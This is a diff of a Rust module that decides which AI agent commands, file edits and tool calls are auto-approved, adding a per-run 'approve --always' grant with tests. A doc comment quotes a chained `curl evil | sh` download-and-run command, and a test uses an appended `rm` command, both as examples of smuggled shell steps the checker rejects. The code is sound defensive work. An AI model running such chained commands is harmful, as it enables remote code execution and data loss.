@@ -8,13 +8,21 @@
 //!   without a shell) is compared word for word, and must be what the human
 //!   would be shown (`command` is its rendering), since a payload is
 //!   whatever the asker sent;
-//! - a `command` line alone (an ACP agent's terminal tool, which a shell
+//! - a `command` line alone (an ACP agent's terminal tool, unwrapped from
+//!   `bash -lc LINE` when the agent wraps it so, which a shell
 //!   runs) is split at spaces and tabs, and only when it holds no shell
 //!   syntax: `cargo test && curl evil | sh` starts with the same words.
 //!
 //! Whatever no rule approves goes to a human, so every doubt refuses.
+//!
+//! A grant (`m approve --always`) is m's own rule for the rest of one run:
+//! the same command again, edits of the same files, the same kind of tool
+//! with the same title ([`Grant`]).
 
+use serde::{Deserialize, Serialize};
 use serde_json::Value;
+
+use crate::model::ApprovalType;
 
 /// Characters that make a shell do more than run one command with its
 /// words: chaining and pipes (`; & |`), redirection (`< >`), subshells and
@@ -123,10 +131,105 @@ pub fn shell_words<S: AsRef<str>>(argv: &[S]) -> String {
         .join(" ")
 }
 
+/// What `m approve --always` grants for the rest of the run: the later
+/// approvals m approves itself, without asking anyone.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(tag = "type", rename_all = "snake_case")]
+pub enum Grant {
+    /// The same command line (and, from `m ask`, the same argv).
+    Command {
+        command: String,
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        argv: Option<Value>,
+    },
+    /// Edits of these files only (an ACP agent's edits name them).
+    Diff { paths: Vec<String> },
+    /// The same kind of tool call with the same title.
+    Generic { kind: String, title: String },
+}
+
+impl Grant {
+    /// The grant an approval of `approval_type` with `payload` makes, if m
+    /// can tell which later requests are the same (a review's whole diff,
+    /// or an edit that names no file, cannot be granted again).
+    pub fn of(approval_type: ApprovalType, payload: &Value) -> Option<Grant> {
+        let text = |key: &str| payload.get(key).and_then(Value::as_str);
+        match approval_type {
+            ApprovalType::Command => Some(Grant::Command {
+                command: text("command")
+                    .filter(|c| !c.trim().is_empty())?
+                    .to_string(),
+                argv: payload.get("argv").cloned(),
+            }),
+            ApprovalType::Diff => {
+                let paths: Vec<String> = payload
+                    .get("paths")?
+                    .as_array()?
+                    .iter()
+                    .map(|p| p.as_str().map(str::to_string))
+                    .collect::<Option<_>>()?;
+                (!paths.is_empty()).then_some(Grant::Diff { paths })
+            }
+            ApprovalType::Generic => Some(Grant::Generic {
+                kind: text("kind").unwrap_or_default().to_string(),
+                title: text("title").filter(|t| !t.trim().is_empty())?.to_string(),
+            }),
+        }
+    }
+
+    /// Whether the grant approves a request of `approval_type` with `payload`.
+    pub fn covers(&self, approval_type: ApprovalType, payload: &Value) -> bool {
+        match (self, Grant::of(approval_type, payload)) {
+            (Grant::Diff { paths }, Some(Grant::Diff { paths: wanted })) => {
+                wanted.iter().all(|p| paths.contains(p))
+            }
+            (grant, Some(asked)) => *grant == asked,
+            (_, None) => false,
+        }
+    }
+
+    /// What the grant covers, in a few words.
+    pub fn describe(&self) -> String {
+        match self {
+            Grant::Command { command, .. } => format!("the command `{command}`"),
+            Grant::Diff { paths } => format!("edits of {}", paths.join(", ")),
+            Grant::Generic { kind, title } if kind.is_empty() => format!("\"{title}\""),
+            Grant::Generic { kind, title } => format!("{kind} \"{title}\""),
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
     use serde_json::json;
+
+    #[test]
+    fn a_grant_covers_the_same_command_the_same_files_the_same_tool() {
+        let command = |c: &str| json!({ "command": c, "toolCallId": "t" });
+        let grant = Grant::of(ApprovalType::Command, &command("touch ran.txt")).unwrap();
+        assert!(grant.covers(ApprovalType::Command, &command("touch ran.txt")));
+        assert!(!grant.covers(ApprovalType::Command, &command("touch ran.txt; rm x")));
+        assert!(!grant.covers(ApprovalType::Generic, &command("touch ran.txt")));
+        let argv = json!({ "command": "ls", "argv": ["ls"] });
+        assert!(!grant.covers(ApprovalType::Command, &argv));
+        assert_eq!(grant.describe(), "the command `touch ran.txt`");
+
+        let diff = |paths: Value| json!({ "paths": paths, "diff": "" });
+        let grant = Grant::of(ApprovalType::Diff, &diff(json!(["a.rs", "b.rs"]))).unwrap();
+        assert!(grant.covers(ApprovalType::Diff, &diff(json!(["b.rs"]))));
+        assert!(!grant.covers(ApprovalType::Diff, &diff(json!(["b.rs", "c.rs"]))));
+        // A review (or `m ask`) diff names no files: nothing to grant again.
+        let review = json!({ "patch": "...", "stat": {} });
+        assert!(Grant::of(ApprovalType::Diff, &review).is_none());
+        assert!(!grant.covers(ApprovalType::Diff, &review));
+
+        let tool = |t: &str| json!({ "kind": "fetch", "title": t });
+        let grant = Grant::of(ApprovalType::Generic, &tool("Fetch docs")).unwrap();
+        assert!(grant.covers(ApprovalType::Generic, &tool("Fetch docs")));
+        assert!(!grant.covers(ApprovalType::Generic, &tool("Fetch evil")));
+        assert!(Grant::of(ApprovalType::Generic, &tool(" ")).is_none());
+    }
 
     fn rules() -> Vec<String> {
         vec!["cargo test".into(), "git status".into()]
